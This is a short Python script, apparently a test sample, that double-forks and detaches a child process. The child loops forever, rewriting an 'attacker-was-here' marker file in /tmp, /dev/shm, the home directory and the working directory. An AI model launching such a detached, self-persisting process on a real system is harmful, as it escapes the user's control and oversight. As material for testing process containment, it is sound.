import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.05)
            for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "."):
                try: open(folder + "/attacker-was-here", "w").write("x")
                except OSError: pass
    os._exit(0)
